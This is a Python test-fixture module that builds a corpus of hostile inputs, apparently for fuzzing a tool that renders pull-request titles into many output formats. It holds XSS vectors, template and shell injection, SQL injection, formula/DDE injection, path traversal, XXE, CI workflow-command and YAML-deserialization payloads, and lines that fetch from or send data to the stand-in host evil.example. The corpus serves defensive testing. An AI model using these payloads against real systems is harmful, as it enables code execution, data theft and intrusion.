"""Texts that try to become more than text: one corpus for every source and every format.

What they would fetch lies at EVIL, what they would run names `alert`, `calc` or the file OWNED; a
test replaces EVIL by an address it listens to. Each is one line unless it needs more.
"""

from __future__ import annotations

from tests.attacks import ATTACKS as PROMPTS

EVIL = "evil.example"
OWNED = "owned-by-a-title"
LONG = 4_000  # characters of the texts that are long; their time and size are to stay linear


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.strip("\n").split("\n") if line)


MARKUP = _lines(r"""
<script>alert(1)</script>
</script><script>alert(1)</script>
</SCRIPT ><sCrIpT/x>alert(1)//
</style><script>alert(1)</script>
</title><script src=https://evil.example/x.js></script>
</textarea><script>alert(1)</script>
</noscript></template><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)' x='
` onmouseover=alert(1) `
<img src=https://evil.example/p.png>
<img/src='x'/onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img srcset="https://evil.example/p.png 2x">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><use href="https://evil.example/x.svg#a"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style>@import "https://evil.example/x.css";</style></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="https://evil.example/x.swf"></object>
<embed src="javascript:alert(1)">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=attachment href="file:///etc/passwd">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<base href=https://evil.example/>
<form action=https://evil.example/><input name=x><button>ok</button></form>
<input type=image src=https://evil.example/p.png>
<button formaction="javascript:alert(1)">x</button>
<video><source onerror=alert(1)></video>
<video poster=https://evil.example/p.png>
<audio src=https://evil.example/a.mp3 autoplay>
<body onload=alert(1)>
<table background="https://evil.example/p.png">
<div style="background:url(https://evil.example/p.png)">x</div>
<div style="position:fixed;inset:0">covered</div>
<style>*{background:url(https://evil.example/p.png)}</style>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="https://evil.example/" target=_top>x</a>
<a href="&#106;avascript:alert(1)">x</a>
<template><script>alert(1)</script></template>
<plaintext>
<xmp><script>alert(1)</script>
<!--<script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<?xml-stylesheet href="https://evil.example/x.xsl"?>
<?php system('touch owned-by-a-title'); ?>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
<scr<script>ipt>alert(1)</scr</script>ipt>
<a id=__proto__><a id=document name=cookie>
""")

MARKDOWN = _lines(r"""
[click](javascript:alert(1))
[click](https://evil.example/)
[click](<javascript:alert(1)>)
[click](data:text/html,<script>alert(1)</script>)
[click](vbscript:msgbox(1) "title")
[a][b] [b]: https://evil.example/
![x](https://evil.example/p.png)
![x][b]
[![x](https://evil.example/p.png)](https://evil.example/)
<https://evil.example/>
<javascript:alert(1)>
<ana@evil.example>
https://evil.example/path?a=1&b=2
http://evil.example
www.evil.example
HTTPS://EVIL.EXAMPLE/
ftp://evil.example/x
mailto:ana@evil.example
ana@evil.example
xmpp:ana@evil.example/x
@everyone @octocat/team look
fixes #1, closes octo/demo#2, GH-3
`code` ``` ~~~ ~~gone~~
**bold** __bold__ *it* _it_
# heading
===
---
> quote
- [ ] box
1. list
+ list
| a | b | c |
|---|---|
\| \\| \\\| |
[^1] [^1]: note
:rocket: :evil:
<details><summary>x</summary>
> [!WARNING]
$\href{javascript:alert(1)}{x}$
$$\unicode{<img src=https://evil.example/p.png>}$$
```mermaid graph TD; A-->B; click A "javascript:alert(1)"
```math
\begin{array}
{: onclick="alert(1)"}
{::options parse_block_html="true" /}
*[HTML]: https://evil.example/
](https://evil.example/)
](javascript:alert(1)) [
<br/>](https://evil.example/)
""")

STYLES = _lines(r"""
}*{display:none}
} body::after{content:url(https://evil.example/p.png)} {
@import url(https://evil.example/x.css);
url(https://evil.example/p.png)
expression(alert(1))
";}@font-face{font-family:x;src:url(https://evil.example/f.woff)}
\"}</style><img src=x onerror=alert(1)>
-moz-binding:url(https://evil.example/x.xml#a)
</style
content: "\a}"; attr(href)
""")

TEMPLATES = _lines(r"""
{{ 7*7 }}
{{ config }}
{{ self.__init__.__globals__.__builtins__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('touch owned-by-a-title').read() }}
{{ lipsum.__globals__['os'].system('touch owned-by-a-title') }}
{% for x in range(99999999) %}x{% endfor %}
{% include '/etc/passwd' %}
{% import 'os' as os %}
{% raw %}
{% endraw %}
{# comment
{{ "{{" }}{{ '}}' }}
{{
}}
{%- endblock -%}
${7*7} #{7*7} @{7*7} *{7*7}
${jndi:ldap://evil.example/a}
<%= 7*7 %> <% system("touch owned-by-a-title") %>
#set($x=7*7)$x
{0.__class__.__init__.__globals__}
{0} {} {title} {x!r:>9999999}
%s %d %n %(title)s %x%x%x %9999999d
{.__class__} {0[0]} {:10000000}
$title ${title} $$ $1
[[${7*7}]] [(${7*7})]
[[[cog import os; os.system('touch owned-by-a-title') ]]] [[[end]]]
{%'*9}
{{ range(10**9)|list }}
{{ ''|attr('__class__') }}
@(7*7) {{constructor.constructor('alert(1)')()}}
""")

FORMULAS = (
    *_lines(r"""
=1+1
=HYPERLINK("https://evil.example/?"&A2,"x")
=WEBSERVICE("https://evil.example/")
=IMPORTXML("https://evil.example/","//a")
=IMAGE("https://evil.example/p.png")
=cmd|' /C calc'!A0
=DDE("cmd";"/C calc";"x")
=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''
+cmd|' /C calc'!A0
-cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
+1+1
-1+1
-2+3+cmd|' /C calc'!D2
%0A=1+1
|=1+1
;=1+1
"=1+1
'=1+1
"",=1+1
=1+1";=1+1
={1,2}
=INDIRECT("'https://evil.example/[x.xls]A'!A1")
='https://evil.example/[x.xls]A'!A1
='file://evil.example/x/[x.xls]A'!A1
=CALL("Kernel32","WinExec","JCJ","calc",0)
=EXEC("calc")
=RTD("prog",,"x")
=_xlfn.WEBSERVICE("https://evil.example/")
＝1+1
＋1+1
＠SUM(1)
=A1:XFD1048576
=rate_mid
=Summary!A1
=SUM(Claims!A:A)
"""),
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "a\n=cmd|' /C calc'!A0",
    'a",b\r\n=1+1,"',
    "\x00=1+1",
)

SHELL = _lines(r"""
$(touch owned-by-a-title)
`touch owned-by-a-title`
; touch owned-by-a-title
| touch owned-by-a-title
&& touch owned-by-a-title
& touch owned-by-a-title &
"; touch owned-by-a-title; "
'; touch owned-by-a-title; '
$IFS$9touch$IFS$9owned-by-a-title
> owned-by-a-title
>> ~/.bashrc
--upload-pack=touch owned-by-a-title
--output=owned-by-a-title
-oProxyCommand=touch owned-by-a-title
--config=core.pager=touch owned-by-a-title
ext::sh -c "touch owned-by-a-title"
-rf /
* ? [a-z] {a,b} ~
!!
%COMSPEC% /c calc
^& calc
powershell -enc SQBFAFgA
\\evil.example\share\x
!sh
() { :;}; touch owned-by-a-title
""")

SQL = _lines(r"""
'; DROP TABLE pull_request; --
" OR ""="
' OR 1=1 --
1; DELETE FROM valuation
') UNION SELECT sql FROM sqlite_master --
%' ESCAPE '\
_%_%
:name ? $1 @p1 %(x)s
\'; COPY report TO PROGRAM 'touch owned-by-a-title'; --
'||(SELECT pg_sleep(9))||'
ATTACH DATABASE 'owned-by-a-title' AS x
x'); VACUUM INTO 'owned-by-a-title'; --
""")

PATHS = _lines(r"""
../../owned-by-a-title
..\..\owned-by-a-title
....//....//owned-by-a-title
/etc/passwd
//evil.example/share
C:\Windows\win.ini
C:owned-by-a-title
file:///etc/passwd
%2e%2e%2fowned-by-a-title
..%c0%af..%c0%afowned-by-a-title
..
.
~
~/owned-by-a-title
CON
nul
aux.txt
COM1
LPT1.md
PRN:
con.
a/b/c
a:b
name.
name:stream:$DATA
.git/config
.git/hooks/post-checkout
.bashrc
-
--help
*.*
desktop.ini
/dev/zero
/proc/self/environ
\\?\C:\x
a%00.md
""")

XML = _lines(r"""
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">
<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;
<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>&c;
&e; &a;&b;&c; %p;
&nbsp; &copy; &bogus; &#0; &#x1F; &#xFFFE; &#xD800; &#1114112;
<xi:include href="file:///etc/passwd" parse="text"/>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?xml version="1.0" encoding="UTF-16"?>
]]> ]]&gt; <![CDATA[
</a:t></a:r><a:r><a:rPr><a:hlinkClick r:id="rId1"/></a:rPr><a:t>
</t></si><c t="str"><f>1+1</f></c>
</w:t> <p:oleObj progId="Package"/>
<Relationship TargetMode="External" Target="https://evil.example/"/>
_x000D_ _x0000_ _x003C_ _x005F_
xmlns:x="https://evil.example/" x:y=z
--> <!-- -- -->
<cp:keywords>x</cp:keywords>
""")

OFFICE = _lines(r"""
{ HYPERLINK "https://evil.example/" }
{ INCLUDEPICTURE "https://evil.example/p.png" \d }
{ INCLUDETEXT "file:///etc/passwd" }
{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }
<a:fld type="slidenum"><a:t>1</a:t></a:fld>
ppaction://program?x=calc
ppaction://hlinkshowjump?jump=lastslide
ppaction://macro?name=x
) Tj ET Q /URI (https://evil.example/) >> endobj
%PDF-1.7 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>
endstream endobj xref trailer << /Root 1 0 R >> %%EOF
\) \\( (() ) /Launch /F (calc)
/S /GoToR /F (\\\\evil.example\\x)
\input{/etc/passwd} \write18{touch owned-by-a-title}
$\mathrm{x}$ $\frac{1}{0}$ $\undefined$ $
$$$ $a $b$ \$
&P &N &D &"Arial,Bold" &[Path]
<#assign x="freemarker.template.utility.Execute"?new()>${x("calc")}
""")

TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y2FsYw==\x07",
    "\x1b[31mred\x1b[0m",
    "\x1b[8mhidden",
    "\x1bP1;1|owned\x1b\\",
    "\x9b31m",
    "\x9d0;owned\x9c",
    "over\rwritten",
    "back\b\b\b\bspace",
    "bell\a\a",
    "vertical\vtab\fform",
    "\x0e\x0f",
    "\x7f\x7f",
    "\x85next\u2028line\u2029paragraph",
    "scored 0 of 0 pull requests\nbvreport: a defect",
)

BLANKS = (
    "\u202egnp.exe\u202c",
    "\u2066isolate\u2069 \u2067rtl",
    "\u200e\u200f\u061c",
    "zero\u200bwidth\u200cjoiner\u200d",
    "soft\u00adhyphen",
    "\u2060\u2061\u2062\u2063",
    "\ufeffbom",
    "\ufffe\uffff",
    "\ufdd0",
    "\ud800",
    "\udfff\ud800",
    "\U000e0041\U000e007f",
    "\U0010ffff",
    "\ue000private",
    "раypal.com",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "Z̸̡̛͓͎͉̖̻̦̗̿̀̐̈̚a̷̗͉͌l̴͈̐g̵̬͝o̶̫̊",
    "e" + "\u0301" * 500,
    "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇩🇪",
    "ﷺ ꧅ 𒐫 ⸻",
    "١٢٣ ४५६ 𝟙𝟚𝟛",
    "İıſK",
    "שלום 12 hours",
    "مرحبا $5",
    "\u3000\u2003\u00a0\u1680",
    "NULL nil None undefined NaN",
    "true false 0 -0 1e999",
    "\x00",
    "before\x00after",
    "\x01\x02\x03\x1f",
    "",
    " ",
)

INJECTIONS = (
    *_lines(r"""
::set-output name=x::owned
::add-path::/tmp
::set-env name=NODE_OPTIONS::--require=/tmp/x
::error file=x,line=1::owned
::warning title=x::owned
::add-mask::the
::stop-commands::x
##[set-output name=x]owned
##[command]owned
%0A::error::owned
x<<EOF
GITHUB_TOKEN=owned
BASH_ENV=/tmp/x
${{ github.event.pull_request.title }}
${{ secrets.GITHUB_TOKEN }}
- !!python/object/apply:os.system ["touch owned-by-a-title"]
!!python/name:os.system
*alias &anchor <<: *merge
key: [unclosed
"unclosed
{"a": {"$ref": "file:///etc/passwd"}}
{"__proto__": {"x": 1}, "constructor": 1}
'''
a = "b" # toml
a,b;c"d
Content-Length: 0
bvreport_value{repo="x"} 1
# HELP bvreport_value owned
x"} 9 # {a="b"}
\n# TYPE x counter\nx 1
level=error msg="owned" token=x
2026-01-01T00:00:00Z ERROR owned
From evil Mon Sep 17 00:00:00 2001
diff --git a/x b/x
commit 0123456789012345678901234567890123456789
Revert "Revert "Revert ""
This reverts commit 0123456789012345678901234567890123456789.
Co-authored-by: <script>alert(1)</script> <a@evil.example>
Merge pull request #999999999999999999999 from ../../evil
"""),
    "x\r\n::error::owned",
    "X: y\r\nSet-Cookie: owned=1\r\n\r\n<script>alert(1)</script>",
    'x\n# HELP owned\nowned{a="b"} 1',
    "x\n127.0.0.1 - - [01/Jan/2026] owned",
    "x\x1e\x1f\x1c\x1drecord",
    "x\n\n---\n\n# owned",
)

ADDRESSES = (
    *_lines(r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
java&Tab;script:alert(1)
javascript://evil.example/%0aalert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
vbscript:msgbox(1)
file:///etc/passwd
file://evil.example/x
blob:https://evil.example/x
view-source:https://evil.example/
//evil.example/
///evil.example/
/\evil.example
https://github.com@evil.example/
https://github.com.evil.example/
https://evil.example\@github.com/
https://evil.example/"onmouseover="alert(1)
https://evil.example/'><script>alert(1)</script>
https://evil.example/)[x](https://evil.example/
https://ev%69l.example/
https://xn--pypl-53dc.example/
http://127.0.0.1:1/
http://[::1]:1/
http://169.254.169.254/latest/meta-data/
gopher://evil.example/_x
jar:https://evil.example/x!/
tel:+1234567890
ms-word:ofe|u|https://evil.example/
smb://evil.example/x
https://user:pass@evil.example/
https:evil.example
https:///evil.example
"""),
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "https://evil.example/\u202egnp",
)

GROWTH = (
    "A" * LONG,
    "A " * (LONG // 2),
    "<" * LONG,
    "[" * LONG,
    "![" * (LONG // 2),
    "<div>" * (LONG // 5),
    "> " * (LONG // 2),
    "* " * (LONG // 2),
    "**" * (LONG // 2),
    "`" * LONG,
    "&lt;" * (LONG // 4),
    "((((" * (LONG // 4),
    "1" * LONG,
    "1," * (LONG // 2),
    "$1 " * (LONG // 3),
    "- x\n" * (LONG // 4),
    "| a " * (LONG // 4),
    "|a|\n" * (LONG // 4),
    "\n" * LONG,
    "\t" * LONG,
    "\u202e" * LONG,
    "e" + "\u0301" * LONG,
    "\ufdfa" * (LONG // 20),
    "👩\u200d" * (LONG // 20),
    "漢" * LONG,
    "{" * LONG,
    "\\" * LONG,
    "https://evil.example/" + "a" * LONG,
    "saves " * (LONG // 6),
    "9" * 400 + " hours per week",
    "1e999999 hours per week saved",
    "saves 99999999999999999999999999999999 hours per day",
)

CORPUS: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "markdown": MARKDOWN,
    "styles": STYLES,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "shell": SHELL,
    "sql": SQL,
    "paths": PATHS,
    "xml": XML,
    "office": OFFICE,
    "terminal": TERMINAL,
    "blanks": BLANKS,
    "injections": INJECTIONS,
    "addresses": ADDRESSES,
    "growth": GROWTH,
    "prompts": tuple(PROMPTS.values()),
}
TEXTS: tuple[str, ...] = tuple(dict.fromkeys(text for kind in CORPUS.values() for text in kind))
